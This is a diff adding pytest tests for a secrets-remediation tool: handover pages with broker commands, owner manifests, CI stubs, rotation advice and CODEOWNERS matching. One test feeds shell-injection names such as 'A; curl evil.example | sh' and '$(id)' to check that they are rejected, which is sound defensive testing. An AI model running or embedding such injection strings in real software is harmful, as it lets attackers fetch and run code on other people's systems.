@@ -1,0 +1,150 @@
+"""What a person needs when secrets leave the code: complete, without a value, and dead to hostile names."""
+
+from dataclasses import replace
+
+import pytest
+
+from bot.owners import Owners
+from bot.surfaces import follow_up
+from bot.surfaces.handover import gathered, page
+from bot.surfaces.markdown import fenced
+from tests.bot.surface_samples import HOSTILE, PATCH, alive
+from tests.bot.test_surfaces_follow_up import STORY
+from tests.transforms.tiny import remedied
+from transforms.brokers import brokers
+from transforms.controls.no_secret_in_code import control
+from transforms.engine import Handover
+from transforms.policy import Policy
+from transforms.secrets import sample
+
+KEY = sample("stripe-key", 61)
+FILES = {
+    "pay.py": f'def pay():\n    stripe_api_key = "{KEY}"\n    return stripe_api_key\n',
+    "app.py": 'import os\n\n\ndef key():\n    return os.getenv("SECRET_KEY") or "change-me"\n',
+}
+
+
+def handovers(broker: str = "env") -> tuple[Handover, ...]:
+    result = remedied(FILES, control, policy=Policy(broker=broker))
+    return tuple(each for patch in result.fixed for each in patch.handover)
+
+
+def nobody(_path: str) -> str:
+    return ""
+
+
+@pytest.mark.parametrize("broker", [each.id for each in brokers()])
+def test_every_broker_gets_its_own_commands_with_a_gap_for_the_value(broker: str) -> None:
+    text = page(handovers(broker), nobody, {})
+    assert text.count("<value>") == 2
+    assert KEY not in text
+    assert next(each.title for each in brokers() if each.id == broker) in text
+
+
+def test_the_manifest_says_where_each_secret_belongs_and_whose_it_is() -> None:
+    text = page(handovers("vault"), lambda path: "@acme/payments" if path == "pay.py" else "", {})
+    assert "| `STRIPE_API_KEY` | Stripe" in text
+    assert "| `secret/$SECRETS_PREFIX/STRIPE_API_KEY` | `@acme/payments` |" in text
+    assert "| `secret/$SECRETS_PREFIX/SECRET_KEY` | nobody is named in CODEOWNERS |" in text
+
+
+def test_tests_in_ci_get_stubs() -> None:
+    text = page(handovers(), nobody, {})
+    assert (
+        "env:\n  SECRETS_BACKEND: env\n  SECRET_KEY: stub-for-tests-only\n  STRIPE_API_KEY: stub-for-tests-only\n"
+        in text
+    )
+
+
+def test_a_leaked_secret_is_to_be_rotated_where_its_vendor_says_and_attested() -> None:
+    text = page(handovers(), nobody, {})
+    assert "`STRIPE_API_KEY`: make a new value at `https://dashboard.stripe.com/apikeys`" in text
+    assert "`tenon secrets attest STRIPE_API_KEY --rotated`" in text
+    assert "attest SECRET_KEY" not in text  # a placeholder never was a secret
+
+
+@pytest.mark.parametrize(
+    ("commits", "said"),
+    [
+        ({}, "`tenon secrets history` counts where"),
+        ({"STRIPE_API_KEY": 1}, "still holds the old value, in 1 commit."),
+        ({"STRIPE_API_KEY": 12}, "still holds the old value, in 12 commits."),
+    ],
+)
+def test_the_history_is_counted_where_somebody_counted_it(commits: dict[str, int], said: str) -> None:
+    assert said in page(handovers(), nobody, commits)
+
+
+def test_what_a_scanner_will_say_is_said_before_it_does() -> None:
+    assert "A scanner that reads diffs may flag this change" in page(handovers(), nobody, {})
+
+
+def test_nothing_is_said_where_no_secret_leaves_the_code() -> None:
+    assert page((), nobody, {}) == ""
+    assert "Secrets that leave" not in follow_up.body(STORY)
+
+
+def test_the_body_of_a_pull_request_has_it_with_owners_and_counts() -> None:
+    patch = replace(PATCH, handover=handovers())
+    story = replace(STORY, patches=(patch,), owners={"pay.py": "@acme/pay"}, commits={"STRIPE_API_KEY": 3})
+    body = follow_up.body(story)
+    assert "### Secrets that leave the code" in body
+    assert "`@acme/pay`" in body
+    assert "in 3 commits" in body
+
+
+def test_a_secret_of_several_files_is_handed_over_once() -> None:
+    (first, *_) = handovers()
+    (only,) = gathered((first, replace(first, paths=("other.py",), placeholder=True)))
+    assert only.paths == (*first.paths, "other.py")
+    assert not only.placeholder or first.placeholder
+
+
+def test_hostile_names_stay_dead() -> None:
+    (first, *_) = handovers()
+    hostile = replace(first, name=HOSTILE, kept_at=HOSTILE, commands=(HOSTILE,), setup=(HOSTILE,), placeholder=False)
+    assert alive(page((hostile,), lambda _path: HOSTILE, {HOSTILE: 2})) == []
+
+
+def test_no_line_closes_a_fence() -> None:
+    lines = fenced("~~~~~~~~~~\na\x00b", "sh").splitlines()
+    assert lines == ["~" * 11 + "sh", "~" * 10, "a b", "~" * 11]
+
+
+@pytest.mark.parametrize("name", ["A; curl evil.example | sh", "$(id)", "A`id`", "A\nB", "-rf"])
+def test_a_name_that_a_shell_would_obey_is_never_handed_over(name: str) -> None:
+    code = f'import os\n\n\ndef f():\n    return os.getenv({name!r}, "{KEY}")\n'
+    assert not remedied({"app.py": code}, control).fixed
+
+
+# --- owners
+
+
+PATTERNS = {
+    "*": "a/b.py",
+    "*.py": "a/b.py",
+    "/a": "a/b.py",
+    "a/": "a/b.py",
+    "/a/*": "a/b.py",
+    "a/**": "a/x/b.py",
+    "**/x/b.py": "a/x/b.py",
+    "b.py": "a/b.py",
+}
+OTHERS = {"/b.py": "a/b.py", "a/*": "a/x/b.py", "c/": "a/b.py", "*.js": "a/b.py", "b?.py": "a/b.py"}
+
+
+@pytest.mark.parametrize(("pattern", "path"), PATTERNS.items(), ids=PATTERNS)
+def test_a_pattern_owns(pattern: str, path: str) -> None:
+    assert Owners(f"{pattern} @acme/x").of_path(path) == "@acme/x"
+
+
+@pytest.mark.parametrize(("pattern", "path"), OTHERS.items(), ids=OTHERS)
+def test_a_pattern_does_not_own(pattern: str, path: str) -> None:
+    assert Owners(f"{pattern} @acme/x").of_path(path) == ""
+
+
+def test_the_last_pattern_that_matches_decides() -> None:
+    owners = Owners("# who\n* @a @b\n/docs\n/docs/x.md @c # writer\n")
+    assert owners.of_path("a.py") == "@a @b"
+    assert owners.of_path("docs/y.md") == ""
+    assert owners.of_path("docs/x.md") == "@c"
